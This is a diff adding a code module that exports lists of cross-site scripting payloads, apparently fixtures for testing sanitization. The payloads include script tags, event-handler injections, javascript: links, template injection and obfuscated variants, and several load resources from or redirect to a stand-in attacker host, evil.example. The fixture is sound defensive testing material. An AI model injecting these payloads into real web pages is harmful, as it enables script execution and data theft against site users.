@@ -1,0 +1,53 @@
+const evil = 'https://evil.example'
+/** What somebody types who hopes that it is taken for markup or script; where it succeeds it asks `evil`, or opens a dialog. */
+export const hostileStrings = [
+  '<script>alert(1)</script>',
+  `<script src="${evil}/x.js"></script>`,
+  '"><img src=x onerror=alert(1)>',
+  `'"><img src=${evil}/x.png>`,
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  `<iframe src="${evil}"></iframe>`,
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '</title><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  ']]><script>alert(1)</script>',
+  '<a href="javascript:alert(1)">press me</a>',
+  '<a href=" &#106;avascript:alert(1)">press me</a>',
+  `<link rel=stylesheet href=${evil}/x.css>`,
+  `<style>@import "${evil}/x.css"; body{display:none}</style>`,
+  `<div style="background:url(${evil}/x.png)">x</div>`,
+  `<base href="${evil}/">`,
+  `<meta http-equiv="refresh" content="0;url=${evil}">`,
+  `<form action="${evil}"><button>press me</button></form>`,
+  '<details open ontoggle=alert(1)>x</details>',
+  '<input autofocus onfocus=alert(1)>',
+  `{{constructor.constructor("alert(1)")()}} $\{alert(1)}`,
+  `[x](javascript:alert(1)) ![x](${evil}/x.png)`,
+  '<img src=x onerror\u0000=alert(1)> <scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\u202e<script>alert(1)</script>\u202c',
+]
+
+const elements = [
+  '<img src=x',
+  '<svg',
+  '<body',
+  '<video src=x',
+  '<audio src=x',
+  '<details open',
+  '<marquee',
+  '<input autofocus',
+  '<select autofocus',
+  '<iframe',
+  '<object data=x',
+  '<div style=animation-name:x',
+]
+const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onanimationstart']
+
+/** The same hope in every element with every handler, where there is time for so many. */
+export const hostileElements = elements.flatMap((element) =>
+  handlers.map((handler) => `"'>${element} ${handler}=alert(1)>`),
+)
